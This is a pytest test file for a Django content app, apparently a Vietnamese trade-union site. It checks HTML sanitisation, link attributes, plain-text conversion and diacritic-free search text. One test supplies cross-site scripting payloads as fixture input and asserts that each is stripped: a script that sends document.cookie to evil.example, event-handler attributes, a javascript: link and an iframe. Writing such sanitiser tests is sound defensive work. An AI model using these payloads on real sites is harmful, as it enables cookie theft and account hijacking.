"""What an officer pastes into the full version is cleaned; search finds it without diacritics."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from congdoan.content import services
from congdoan.content.models import Product
from congdoan.content.richtext import clean_html, html_to_text

pytestmark = pytest.mark.django_db


def test_script_in_rich_text_is_stripped_on_save(
    cast: Any, make_product: Callable[..., Product]
) -> None:
    product = make_product(
        body=(
            '<p onclick="steal()">Thông báo <strong>quan trọng</strong></p>'
            "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
            '<a href="javascript:alert(1)">bấm vào đây</a>'
            '<img src="x" onerror="alert(1)"><iframe src="https://evil.example"></iframe>'
            "<style>body{display:none}</style>"
        )
    )
    assert "script" not in product.body and "cookie" not in product.body
    assert "onclick" not in product.body and "onerror" not in product.body
    assert "javascript:" not in product.body and "iframe" not in product.body
    assert "display:none" not in product.body
    assert "<strong>quan trọng</strong>" in product.body
    services.product_update(
        actor=cast.officer_a, product=product, body='<p>Sửa<svg onload="alert(1)"></svg></p>'
    )
    product.refresh_from_db()
    assert product.body == "<p>Sửa</p>"


def test_links_keep_their_address_and_lose_their_reach() -> None:
    cleaned = clean_html('<a href="https://congdoan.vn/tin" target="_blank">Tin</a>')
    assert cleaned == '<a href="https://congdoan.vn/tin" rel="noopener noreferrer">Tin</a>'


def test_plain_text_of_the_full_version_keeps_paragraphs() -> None:
    assert html_to_text("<p>Một &amp; hai</p><p>Ba<br>bốn</p>") == "Một & hai\nBa\nbốn"


def test_search_text_is_folded_from_title_summary_and_body(
    make_product: Callable[..., Product],
) -> None:
    product = make_product(
        title="Chăm lo Tết Sum vầy",
        summary="Trao 200 suất quà",
        body="<p>Công nhân <b>khó khăn</b> được hỗ trợ</p>",
    )
    assert (
        product.search_text
        == "cham lo tet sum vay trao 200 suat qua cong nhan kho khan duoc ho tro"
    )
